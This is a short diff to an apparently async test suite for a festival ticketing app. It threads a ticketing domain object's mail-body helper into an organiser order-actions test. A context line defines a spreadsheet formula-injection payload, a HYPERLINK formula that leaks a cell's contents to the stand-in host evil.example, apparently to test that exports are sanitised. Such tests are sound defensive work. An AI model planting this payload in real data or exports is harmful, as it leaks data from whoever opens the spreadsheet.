@@ -19,6 +19,7 @@ from tests.factories import make_event
 from tests.ticketing.factories import make_order, make_ticket_type
 from ticketing import services
 from ticketing.models import Order, Ticket, TicketType
+from ticketing.domain import DOMAIN as TICKETING
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
@@ -161,7 +162,7 @@ async def test_organiser_order_actions(client, db, festival):
     assert await emails_to("amina@example.org") == before + 1
     async with db.read() as session:
         row = await session.scalar(select(OutboxMessage).order_by(OutboxMessage.id.desc()))
-    assert row.subject == "Your tickets again: Handsworth Mela" and "Amina Khatun" in (await bodies(db, row))[0]
+    assert row.subject == "Your tickets again: Handsworth Mela" and "Amina Khatun" in (await bodies(db, row, TICKETING.mail_bodies))[0]
 
     # mark paid, keeping the list's filters on the way back
     response = await client.post(f"/organiser/orders/{festival['evil'].id}/mark-paid?back=%3Fpaid%3Dunpaid",
